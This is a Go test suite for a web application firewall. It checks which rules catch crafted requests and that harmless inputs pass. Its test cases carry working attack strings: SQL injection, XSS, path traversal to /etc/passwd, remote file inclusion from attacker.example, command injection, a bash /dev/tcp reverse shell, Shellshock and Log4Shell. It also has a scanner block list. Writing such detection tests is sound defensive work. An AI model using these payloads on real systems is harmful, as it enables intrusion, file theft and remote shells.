package waf_test

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/phalanx-lb/phalanx/waf"
)

const browserUA = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"

// get returns a GET request for target from a browser.
func get(target string) *http.Request {
	r := httptest.NewRequest(http.MethodGet, target, nil)
	r.Header.Set("User-Agent", browserUA)
	return r
}

// post returns a POST request with a body from a browser.
func post(target, contentType, body string) *http.Request {
	r := httptest.NewRequest(http.MethodPost, target, strings.NewReader(body))
	r.Header.Set("User-Agent", browserUA)
	r.Header.Set("Content-Type", contentType)
	return r
}

// TestPayloadRules runs one request per case through the default engine
// and checks which rule blocked it, or that none did.
func TestPayloadRules(t *testing.T) {
	form := "application/x-www-form-urlencoded"
	for _, tc := range []struct {
		name string
		req  *http.Request
		want int // the rule id expected among the matches; 0: not blocked
	}{
		// SQL injection
		{"union select", get("/p?id=-1%20UNION%20ALL%20SELECT%201,2,3--"), 1002},
		{"tautology", get("/p?user=x%27%20OR%20%271%27%3D%271"), 1003},
		{"numeric tautology in the path", get("/item/1%20or%201=1"), 1003},
		{"comment after quote", get("/login?u=admin%27--"), 1004},
		{"stacked query", post("/p", form, "q=1%3B+DROP+TABLE+users--"), 1005},
		{"sleep", get("/p?id=1%27%20AND%20SLEEP(5)--%20-"), 1006},
		{"catalogue", get("/p?id=1%20and%201=(select%20count(*)%20from%20information_schema.tables)"), 1007},
		{"order by probe", get("/p?id=1%27%20ORDER%20BY%2010--%20-"), 1008},
		{"versioned comment", get("/p?id=1/*!50000UNION*/"), 1009},
		{"split keyword", get("/p?id=1%20UN/**/ION%20SEL/**/ECT%201"), 1016},
		{"case when", get("/p?id=(SELECT%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200%20END)"), 1017},
		{"JSON operator ?", get("/p?id=1%27%20OR%20%27%7B%22a%22%3A1%7D%27%3A%3Ajsonb%20%3F%20%27a%27--"), 1018},
		{"JSON arrow", get("/p?id=x%27%20OR%20%27%7B%22a%22%3A2%7D%27%20-%3E%20%27%24.a%27%20%3D%202--"), 1018},
		{"json_extract", post("/p", form, "id=1+OR+json_extract(%27%7B%7D%27,%27$.a%27)+IS+NULL"), 1018},
		{"quoted JSON", post("/api", form, "note=he+wrote+%27%7B%22a%22%3A1%7D%27+in+the+box"), 0},
		{"O'Brien", get("/search?q=O%27Brien"), 0},
		{"select in prose", post("/c", form, "body=Please+select+your+size+from+the+list"), 0},
		{"or in prose", post("/c", form, "body=I+can%27t+decide+between+the+red+one+or+the+blue+one"), 0},
		// cross-site scripting
		{"script tag", get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), 2002},
		{"event handler", get("/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E"), 2003},
		{"javascript URL with tab", get("/r?u=java%09script:alert(1)"), 2004},
		{"entity-encoded scheme", get("/r?u=%26%23106;avascript:alert(1)"), 2004},
		{"iframe", get("/s?q=%3Ciframe%20src=//x%3E"), 2005},
		{"string breakout", get("/s?q=%27;alert(document.cookie);//"), 2007},
		{"data URL", get("/s?q=data:text/html;base64,PHNjcmlwdD4="), 2008},
		{"bracket access", get("/s?q=window%5B%27alert%27%5D(1)"), 2011},
		{"bold in a comment", post("/c", form, "body=%3Cb%3Ebold%3C%2Fb%3E+and+%3Ci%3Eitalic%3C%2Fi%3E"), 0},
		{"heart", get("/s?q=I+%3C3+NY"), 0},
		// traversal and file inclusion
		{"dot dot", get("/d?file=../../../etc/passwd"), 3001},
		{"encoded dots", get("/d?file=%252e%252e%252fetc%252fpasswd"), 3001},
		{"overlong", get("/d?file=..%c0%af..%c0%afetc%c0%afpasswd"), 3001},
		{"encoded slash in the path", get("/static/..%2f..%2fetc/passwd"), 3004},
		{"system file", get("/d?file=/etc/passwd"), 3005},
		{"windows file", get("/d?file=C:%5CWindows%5Cwin.ini"), 3005},
		{"php wrapper", get("/d?page=php://filter/convert.base64-encode/resource=index.php"), 3006},
		{"NUL", get("/d?file=report.pdf%00.jpg"), 3007},
		{"hidden file", get("/.env"), 3008},
		{"well-known", get("/.well-known/security.txt"), 0},
		{"relative links prose", get("/search?q=how+does+..%2F+work"), 0},
		{"etc mentioned", get("/search?q=what+is+/etc/hosts"), 0},
		// remote file inclusion
		{"IP URL", get("/i?page=http://203.0.113.7/shell.php"), 3101},
		{"trailing question mark", get("/i?x=http://attacker.example/shell.txt?"), 3102},
		{"include parameter", get("/i?template=https://attacker.example/t.html"), 3103},
		{"gopher", get("/i?url=gopher://127.0.0.1:6379/_x"), 3101},
		{"link parameter", get("/out?url=https%3A%2F%2Fwww.example.com%2Fpage%3Fa%3D1"), 0},
		{"image proxy", get("/img?src=https%3A%2F%2Fcdn.example.com%2Fa.png&w=200"), 0},
		// command injection
		{"semicolon cat", get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"), 4001},
		{"pipe id", get("/ping?host=x%7Cid"), 4001},
		{"substitution", get("/ping?host=$(whoami)"), 4001},
		{"backticks", get("/ping?host=%60id%60"), 4001},
		{"quote split", get("/ping?host=;c%27a%27t%20/etc/passwd"), 4001},
		{"IFS", get("/ping?host=;cat${IFS}/etc/passwd"), 4001},
		{"shellshock header", func() *http.Request {
			r := get("/")
			r.Header.Set("User-Agent", "() { :; }; /bin/bash -c 'id'")
			return r
		}(), 4002},
		{"reverse shell", get("/x?c=bash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/8080%200%3E%261"), 4003},
		{"glob", get("/x?f=;/???/c?t%20/???/p??s??"), 4005},
		{"command parameter", get("/x?cmd=ls%20-la%20/"), 4008},
		{"log4shell", get("/x?q=$%7B$%7Blower:j%7Dndi:ldap://x/a%7D"), 4009},
		{"batch if exist", get("/x?q=IF+EXIST+C%3A%5Cboot.ini+ECHO+found"), 4010},
		{"batch if errorlevel", get("/x?q=if+errorlevel+1+goto+fail"), 4010},
		{"batch if equ", get("/x?q=if+%25errorlevel%25+neq+0+exit+%2Fb"), 4010},
		{"batch if ==", get("/x?q=if+%22%251%22%3D%3D%22%22+goto+error"), 4010},
		{"batch for /f", get("/x?q=for+%2Ff+%22tokens%3D1+delims%3D%2C%22+%25%25g+in+(x.txt)+do+%40echo+%25%25g"), 4006},
		{"python if", get("/x?q=if+x+%3D%3D+5%3A+print(x)"), 0},
		{"prose if defined", get("/x?q=if+defined+in+the+settings%2C+the+value+is+used"), 0},
		{"pseudocode if", get("/x?q=if+a%3D%3Db+and+c"), 0},
		{"command on a system file", get("/x?q=ls+-l+/etc/shadow"), 4011},
		{"command on a system file in prose", get("/x?q=cat+/etc/hosts+windows+equivalent"), 0},
		{"shellshock prefix", get("/x?q=()%20%7B"), 4002},
		{"arithmetic expansion", get("/x?q=$((1%2B1))"), 4004},
		{"substring expansion", get("/x?q=cat${HOME:0:1}etc${HOME:0:1}passwd"), 4004},
		{"empty brace word", get("/x?q=%7B,id%7D"), 4004},
		{"template literal", get("/x?q=Hello+${user.name}"), 0},
		{"cat and dog", get("/search?q=Cat+%26+dog+friendly+hotel"), 0},
		{"address with semicolon", post("/a", form, "addr=Apt+5B%3B+ring+twice"), 0},
		// NoSQL injection
		{"bracket operator", get("/login?user=admin&pass[$ne]=x"), 5001},
		{"JSON operator", func() *http.Request {
			return post("/api/login", "application/json", `{"user":"admin","pass":{"$gt":""}}`)
		}(), 5002},
		{"where", post("/api/find", "application/json", `{"q":"admin' && this.password.match(/.*/)//"}`), 5004},
		{"JSON schema", post("/api/s", "application/json", `{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"x","$ref":"#/a"}`), 0},
		{"JSON.NET type", post("/api/s", "application/json", `{"$type":"MyApp.Models.User, MyApp","name":"x"}`), 0},
		{"GraphQL variables", post("/graphql", "application/json", `{"query":"query Q($id: ID!, $type: T) { a(id: $id) }"}`), 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			// Detect-only, so that every rule runs: in blocking mode the
			// scan stops at the first block.
			e := quietEngine(t, waf.Config{AutoBanThreshold: -1, DetectOnly: true})
			v := e.Inspect(tc.req)
			if tc.want == 0 {
				if v.Detected() {
					t.Errorf("Inspect(%s) = detected by %v (%q), want allowed", tc.req.URL, v.RuleIDs(), v.Matches[0].Value)
				}
				return
			}
			if v.Cause != waf.CausePayload || !slices.Contains(v.RuleIDs(), tc.want) {
				t.Errorf("Inspect(%s) = Cause %v, rules %v, want detected by %d", tc.req.URL, v.Cause, v.RuleIDs(), tc.want)
			}
		})
	}
}

func TestBotRules(t *testing.T) {
	for _, tc := range []struct {
		name  string
		ua    string
		allow []string
		deny  []string
		want  int
	}{
		{"browser", browserUA, nil, nil, 0},
		{"sqlmap", "sqlmap/1.7.2#stable (https://sqlmap.org)", nil, nil, 6001},
		{"nikto", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", nil, nil, 6001},
		{"nmap", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", nil, nil, 6001},
		{"python-requests", "python-requests/2.31.0", nil, nil, 6002},
		{"Go client", "Go-http-client/1.1", nil, nil, 6002},
		{"Java", "Java/17.0.2", nil, nil, 6002},
		{"empty", "", nil, nil, 6003},
		{"Go client allowed", "Go-http-client/1.1", []string{"go-http-client"}, nil, 0},
		{"empty allowed", "", []string{""}, nil, 0},
		{"denied", "BadBot/1.0", nil, []string{"badbot"}, 6004},
		{"curl", "curl/8.5.0", nil, nil, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := quietEngine(t, waf.Config{AutoBanThreshold: -1, BotAllow: tc.allow, BotDeny: tc.deny})
			r := httptest.NewRequest(http.MethodGet, "/", nil)
			if tc.ua != "" {
				r.Header.Set("User-Agent", tc.ua)
			}
			v := e.Inspect(r)
			if tc.want == 0 {
				if v.Block {
					t.Errorf("Inspect(UA %q) = blocked by %v, want allowed", tc.ua, v.RuleIDs())
				}
				return
			}
			if !v.Block || v.Cause != waf.CauseBot || !slices.Contains(v.RuleIDs(), tc.want) {
				t.Errorf("Inspect(UA %q) = %v %v %v, want blocked by bot rule %d", tc.ua, v.Block, v.Cause, v.RuleIDs(), tc.want)
			}
		})
	}
}

func TestExclusions(t *testing.T) {
	x, err := waf.ParseExclusions("sqli", "3001")
	if err != nil {
		t.Fatal(err)
	}
	e := quietEngine(t, waf.Config{AutoBanThreshold: -1})
	sqli := get("/p?id=1%20UNION%20SELECT%201,2")
	if v := e.InspectWith(sqli, &x); v.Block {
		t.Errorf("InspectWith(sqli, exclude sqli) = blocked by %v, want allowed", v.RuleIDs())
	}
	if v := e.Inspect(get("/p?id=1%20UNION%20SELECT%201,2")); !v.Block {
		t.Errorf("Inspect(sqli) = allowed, want blocked: exclusions are per call")
	}
	if v := e.InspectWith(get("/d?f=../../x"), &x); v.Block {
		t.Errorf("InspectWith(../../x, exclude 3001) = blocked by %v, want allowed", v.RuleIDs())
	}
	if v := e.InspectWith(get("/d?f=/etc/passwd"), &x); !v.Block {
		t.Errorf("InspectWith(/etc/passwd, exclude 3001) = allowed, want blocked by 3005")
	}
	bots, _ := waf.ParseExclusions("bot")
	r := httptest.NewRequest(http.MethodGet, "/", nil)
	r.Header.Set("User-Agent", "python-requests/2.31.0")
	if v := e.InspectWith(r, &bots); v.Block {
		t.Errorf("InspectWith(python-requests, exclude bot) = blocked by %v, want allowed", v.RuleIDs())
	}
	for _, bad := range []string{"12345678", "sqlinjection"} {
		if _, err := waf.ParseExclusions(bad); err == nil {
			t.Errorf("ParseExclusions(%q) = nil error, want one", bad)
		}
	}
	if _, err := waf.ParseExclusions("1"); !errors.Is(err, waf.ErrUnknownRule) {
		t.Errorf("ParseExclusions(1) = %v, want ErrUnknownRule", err)
	}
	if _, err := waf.ParseExclusions("nope"); !errors.Is(err, waf.ErrUnknownFamily) {
		t.Errorf("ParseExclusions(nope) = %v, want ErrUnknownFamily", err)
	}
}

func TestConfigValidation(t *testing.T) {
	for _, c := range []waf.Config{{Paranoia: 5}, {Paranoia: -1}, {Threshold: -1}, {MaxValues: -1}, {AutoBanDuration: -time.Second}} {
		if _, err := waf.New(c); !errors.Is(err, waf.ErrConfig) {
			t.Errorf("New(%+v) = %v, want ErrConfig", c, err)
		}
	}
}

// TestParanoia checks that a higher paranoia level runs more rules: the
// prose mention of a system file passes at level 1 and scores at level 2.
func TestParanoia(t *testing.T) {
	r := func() *http.Request {
		return post("/c", "application/x-www-form-urlencoded", "body="+url.QueryEscape("my notes mention /etc/passwd and <a href=x>links</a>"))
	}
	v1 := quietEngine(t, waf.Config{AutoBanThreshold: -1}).Inspect(r())
	v2 := quietEngine(t, waf.Config{AutoBanThreshold: -1, Paranoia: 2}).Inspect(r())
	if v1.Score != 0 {
		t.Errorf("paranoia 1: Score = %d, want 0", v1.Score)
	}
	if v2.Score <= v1.Score || !slices.Contains(v2.RuleIDs(), 3021) || !slices.Contains(v2.RuleIDs(), 2021) {
		t.Errorf("paranoia 2: Score = %d, rules %v, want more than %d with 3021 and 2021", v2.Score, v2.RuleIDs(), v1.Score)
	}
}

func TestThreshold(t *testing.T) {
	// One ../ that does not climb into a name scores 3, below the default
	// threshold; a threshold of 3 blocks it.
	r := func() *http.Request { return get("/search?q=how+does+..%2F+work") }
	if v := quietEngine(t, waf.Config{}).Inspect(r()); v.Block || v.Score != 3 {
		t.Errorf("threshold 5: Block %v, Score %d, want false, 3", v.Block, v.Score)
	}
	if v := quietEngine(t, waf.Config{Threshold: 3}).Inspect(r()); !v.Block {
		t.Errorf("threshold 3: Block = false, want true")
	}
}

func TestMaxValues(t *testing.T) {
	e := quietEngine(t, waf.Config{MaxValues: 10, AutoBanThreshold: -1})
	q := strings.Repeat("a=1&", 20)
	v := e.Inspect(get("/?" + q))
	if !v.Block || !slices.Contains(v.RuleIDs(), 7001) {
		t.Errorf("Inspect(20 parameters, MaxValues 10) = %v %v, want blocked by 7001", v.Block, v.RuleIDs())
	}
}

// TestBodyLimit checks that a body over the limit is inspected up to the
// limit, says so, and still reaches the handler whole.
func TestBodyLimit(t *testing.T) {
	e := quietEngine(t, waf.Config{MaxBodyBytes: 16, AutoBanThreshold: -1})
	body := "a=hello&b=" + strings.Repeat("x", 100) + "&c=%3Cscript%3E"
	r := post("/f", "application/x-www-form-urlencoded", body)
	v := e.Inspect(r)
	if v.Block || !v.BodyTruncated {
		t.Errorf("Inspect(long body) = Block %v, BodyTruncated %v, want false, true: the attack is past the limit", v.Block, v.BodyTruncated)
	}
	got, err := io.ReadAll(r.Body)
	if err != nil || string(got) != body {
		t.Errorf("body after Inspect = %q, %v, want the whole body", got, err)
	}
	r = post("/f", "application/x-www-form-urlencoded", "c=%3Cscript%3E&"+strings.Repeat("x", 100))
	if v := e.Inspect(r); !v.Block || !v.BodyTruncated {
		t.Errorf("Inspect(attack within the limit) = Block %v, BodyTruncated %v, want true, true", v.Block, v.BodyTruncated)
	}
}

// TestCheckView inspects a request view, as an HTTP engine other than
// net/http does, including a path net/http would refuse.
func TestCheckView(t *testing.T) {
	e := quietEngine(t, waf.Config{AutoBanThreshold: -1})
	h := http.Header{"User-Agent": {browserUA}}
	v := e.Check(&waf.Request{Method: "GET", Path: "/icons/.%%32%65/.%%32%65/etc/passwd", Header: h}, nil)
	if !v.Block {
		t.Errorf("Check(CVE-2021-42013 path) = allowed, want blocked")
	}
	v = e.Check(&waf.Request{Method: "POST", Path: "/api", Header: http.Header{"User-Agent": {browserUA}, "Content-Type": {"application/json"}},
		Body: []byte(`{"a":{"b":["c","<script>x</script>"]}}`)}, nil)
	if !v.Block || v.Matches[0].Where != "json:b" {
		t.Errorf("Check(JSON) = %v %+v, want blocked at json:b", v.Block, v.Matches)
	}
}

// listedHeader is the Header of a view that lists its headers, as another
// HTTP engine's does.
type listedHeader [][2]string

func (h listedHeader) Values(name string) []string {
	var out []string
	for _, kv := range h {
		if kv[0] == name {
			out = append(out, kv[1])
		}
	}
	return out
}

func (h listedHeader) EachHeader(f func(name, value string)) {
	for _, kv := range h {
		f(kv[0], kv[1])
	}
}

func TestHeaderLister(t *testing.T) {
	e := quietEngine(t, waf.Config{AutoBanThreshold: -1})
	h := listedHeader{{"User-Agent", browserUA}, {"X-Api-Version", "${jndi:ldap://x/a}"}}
	if v := e.Check(&waf.Request{Method: "GET", Path: "/", Header: h}, nil); !v.Block || v.Matches[0].Where != "header:X-Api-Version" {
		t.Errorf("Check(custom header attack) = %v %+v, want blocked at header:X-Api-Version", v.Block, v.Matches)
	}
}

// TestConcurrentInspect inspects from many goroutines while bans are made,
// lifted and listed, for the race detector.
func TestConcurrentInspect(t *testing.T) {
	e := quietEngine(t, waf.Config{MaxClients: 64})
	var wg sync.WaitGroup
	for g := range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 200 {
				target := "/s?q=shoes"
				if i%3 == 0 {
					target = "/s?q=%3Cscript%3E"
				}
				r := get(target)
				r.RemoteAddr = fmt.Sprintf("10.%d.%d.%d:1", g, i/250, i%250)
				e.Inspect(r)
			}
		}()
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := range 200 {
			a := netip.AddrFrom4([4]byte{10, 0, 0, byte(i)})
			e.Ban(a, time.Minute, "test")
			e.Bans()
			e.Stats()
			e.Unban(a)
		}
	}()
	wg.Wait()
	if n := e.Clients(); n > 64 {
		t.Errorf("Clients() = %d, want at most MaxClients (64)", n)
	}
}

func TestMatchWhere(t *testing.T) {
	e := quietEngine(t, waf.Config{AutoBanThreshold: -1})
	for _, tc := range []struct {
		req  *http.Request
		want string
	}{
		{get("/s?q=%3Cscript%3E"), "query:q"},
		{get("/x/%3Cscript%3E"), "path"},
		{post("/f", "application/x-www-form-urlencoded", "msg=%3Cscript%3E"), "form:msg"},
		{post("/f", "multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n<script>\r\n--B--\r\n"), "multipart:note"},
		{post("/f", "multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../x.php\"\r\n\r\n<script>\r\n--B--\r\n"), "filename"},
		{post("/f", "text/plain", "<script>alert(1)</script>"), "body"},
		{func() *http.Request { r := get("/"); r.Header.Set("Cookie", "a=1; pref=%3Cscript%3E"); return r }(), "cookie:pref"},
		{func() *http.Request { r := get("/"); r.Header.Set("X-Custom", "<script>x</script>"); return r }(), "header:X-Custom"},
	} {
		v := e.Inspect(tc.req)
		if !v.Block || v.Matches[0].Where != tc.want {
			t.Errorf("Inspect(%s) = %v %+v, want blocked at %s", tc.req.URL, v.Block, v.Matches, tc.want)
		}
	}
}

func TestStats(t *testing.T) {
	e := quietEngine(t, waf.Config{AutoBanThreshold: -1})
	e.Inspect(get("/s?q=%3Cscript%3E"))
	e.Inspect(get("/s?q=ok"))
	r := httptest.NewRequest(http.MethodGet, "/", nil)
	r.Header.Set("User-Agent", "sqlmap/1.7")
	e.Inspect(r)
	s := e.Stats()
	if s.Requests != 3 || s.Blocked != 2 || s.ByFamily[waf.FamilyXSS] != 1 || s.ByFamily[waf.FamilyBot] != 1 || s.ByRule[2001] != 1 || s.ByRule[6001] != 1 || s.ByBot["sqlmap"] != 1 {
		t.Errorf("Stats() = %+v, want 3 requests, 2 blocked, one XSS (2001), one bot (6001, sqlmap)", s)
	}
}

// TestDetectOnly checks that detect-only mode blocks nothing, logs what
// it would have blocked and counts it.
func TestDetectOnly(t *testing.T) {
	var log bytes.Buffer
	e := quietEngine(t, waf.Config{DetectOnly: true, Logger: slog.New(slog.NewTextHandler(&log, nil))})
	r := get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E")
	r.Header.Set("X-Request-Id", "req-42")
	v := e.Inspect(r)
	if v.Block || v.Cause != waf.CausePayload {
		t.Errorf("Inspect in detect-only mode = Block %v, Cause %v, want false, payload", v.Block, v.Cause)
	}
	for _, want := range []string{"would be blocked", "request_id=req-42", "family=xss", "2001", "client=192.0.2.1"} {
		if !strings.Contains(log.String(), want) {
			t.Errorf("log = %q, want it to contain %q", log.String(), want)
		}
	}
	if s := e.Stats(); s.Detected != 1 || s.Blocked != 0 {
		t.Errorf("Stats() = %+v, want 1 detected, 0 blocked", s)
	}
}
